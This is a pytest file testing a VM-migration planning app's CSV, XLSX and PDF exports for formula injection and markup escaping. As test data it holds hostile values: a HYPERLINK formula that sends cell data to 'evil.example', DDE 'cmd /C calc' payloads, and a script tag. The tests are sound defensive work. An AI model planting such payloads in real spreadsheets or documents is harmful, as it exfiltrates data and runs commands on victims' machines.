"""Exports of waves, VMs and migration results open in a spreadsheet and never run a hostile VM name as a
formula; the PDF summaries are real PDFs with their charts; every role downloads them."""

import base64
import csv
import io
import re
import zlib

import pytest
from openpyxl import load_workbook

from migrations_app.choices import WaveStatus
from tests.factories import make_estate, make_vm, make_wave
from tests.test_dashboard import running_wave

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
EXPORTS = ("waves", "vms", "results")


@pytest.fixture
def estate():
    estate = make_estate(vms=4)
    hostile = make_vm(estate.vcenter, HOSTILE, used_mib=1024)
    wave = running_wave([hostile, *estate.vms], '@SUM(1+1)*cmd|" /C calc"!A0')
    later = make_wave("+Later", vms=[], status=WaveStatus.DRAFT)
    return wave, later, hostile


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response) -> list[list]:
    book = load_workbook(io.BytesIO(response.content))
    return [[c.value for c in row] for row in book.active.iter_rows()]


def no_formula(rows):
    cells = [c for row in rows for c in row if isinstance(c, str)]
    assert cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("what", EXPORTS)
def test_exports_open_and_never_run_a_formula(client_for, stakeholder, estate, what):
    client = client_for(stakeholder)
    for fmt, read in (("csv", read_csv), ("xlsx", read_xlsx)):
        response = client.get(f"/plan/reports/export/{what}/?format={fmt}")
        assert response.status_code == 200
        assert f'.{fmt}"' in response["Content-Disposition"]
        rows = read(response)
        no_formula(rows)
        flat = [c for row in rows for c in row]
        if what == "waves":
            assert "'" + '@SUM(1+1)*cmd|" /C calc"!A0' in flat and "'+Later" in flat
        else:
            assert "'" + HOSTILE in flat


def test_the_vm_export_holds_group_wave_and_migration_state(client_for, planner, estate):
    wave, later, hostile = estate
    rows = read_csv(client_for(planner).get("/plan/reports/export/vms/?format=csv"))
    header, body = rows[0], {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert len(body) == 5 and "Migration state" in header
    assert body["vm-00002"]["Wave"] == "'" + wave.name and body["vm-00002"]["Migration state"] == "Failed"
    assert body["vm-00001"]["Migration state"] == "Complete"
    assert (
        body["vm-00001"]["Direction"] == "Rollback to the source site" and body["vm-00001"]["Attempt"] == "2"
    )
    assert body["'" + HOSTILE]["Migration state"] == "Complete"
    # Narrowed to one wave through the URL.
    one = read_csv(client_for(planner).get(f"/plan/reports/export/vms/?format=csv&wave={later.pk}"))
    assert len(one) == 1  # the header: the draft wave has no VM


def test_the_results_export_has_every_attempt(client_for, engineer, estate):
    wave, *_ = estate
    rows = read_csv(client_for(engineer).get(f"/plan/reports/export/results/?format=csv&wave={wave.pk}"))
    header = rows[0]
    records = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    # Five VMs, and the rolled-back one has a second attempt going back.
    assert len(records) == 6
    back = [r for r in records if r["Direction"] == "Rollback to the source site"]
    assert len(back) == 1 and back[0]["Attempt"] == "2" and back[0]["State"] == "Complete"
    done = [r for r in records if r["State"] == "Complete" and r["Direction"] == "To AVS"]
    assert all(r["Duration"] == "1h 00m" for r in done)


def test_an_unknown_export_is_not_found(client_for, stakeholder):
    assert client_for(stakeholder).get("/plan/reports/export/passwords/").status_code == 404


def pdf_text(data: bytes) -> str:
    """The text of every content stream (reportlab writes them ASCII85 and Flate encoded)."""
    texts = []
    for stream in re.findall(rb"stream\r?\n(.*?)endstream", data, re.S):
        raw = stream.strip()
        if raw.endswith(b"~>"):
            raw = base64.a85decode(raw, adobe=True)
        try:
            texts.append(zlib.decompress(raw).decode("latin-1"))
        except zlib.error:
            continue
    return "\n".join(texts)


def pages(data: bytes) -> int:
    return len(re.findall(rb"/Type /Page\b(?!s)", data))


@pytest.mark.parametrize("role", ["planner", "engineer", "stakeholder", "admin_user"])
def test_the_programme_pdf_has_its_charts(request, client_for, estate, role):
    response = client_for(request.getfixturevalue(role)).get("/plan/reports/programme.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    data = response.content
    assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF")
    assert pages(data) >= 1
    text = pdf_text(data)
    # The burn-up and status charts are drawn into the page: their titles and legend are there as text.
    for label in (
        "VMs migrated against plan",
        "TiB migrated against plan",
        "Waves by status",
        "Planned \\(by window end\\)",
        "Migration programme",
    ):
        assert label in text, label


def test_a_long_wave_pdf_runs_over_pages_and_escapes_names(client_for, stakeholder):
    estate = make_estate(vms=120)
    hostile = make_vm(estate.vcenter, "<b>bold</b> & <script>", used_mib=1024)
    wave = running_wave([*estate.vms, hostile], "Long wave")
    response = client_for(stakeholder).get(f"/plan/waves/{wave.pk}/report.pdf")
    assert response.status_code == 200
    data = response.content
    assert data.startswith(b"%PDF-") and pages(data) >= 3
    text = pdf_text(data)
    assert "VMs by state of their latest attempt" in text and "Plan versus actual" in text
    # Shown as the text it is, not read as markup (reportlab writes it in pieces: join each line's).
    lines = ["".join(re.findall(r"\((.*?)\) Tj", line)) for line in text.splitlines()]
    assert "<b>bold</b> & <script>" in lines


def test_a_formula_after_a_semicolon_is_neutralised_for_spreadsheets_that_split_on_it(
    client_for, stakeholder
):
    """Where `;` is the list separator (much of Europe), a spreadsheet opening the CSV splits a cell there:
    what follows it must not start a formula either."""
    estate = make_estate(vms=1)
    make_vm(estate.vcenter, 'web01;=cmd|" /C calc"!A0;  +1+1', used_mib=1024)
    response = client_for(stakeholder).get("/plan/reports/export/vms/?format=csv")
    assert response.status_code == 200
    pieces = [p.strip(" \t") for row in read_csv(response) for cell in row for p in cell.split(";")]
    assert "web01" in pieces
    assert not [p for p in pieces if p.startswith(("=", "+", "-", "@"))]
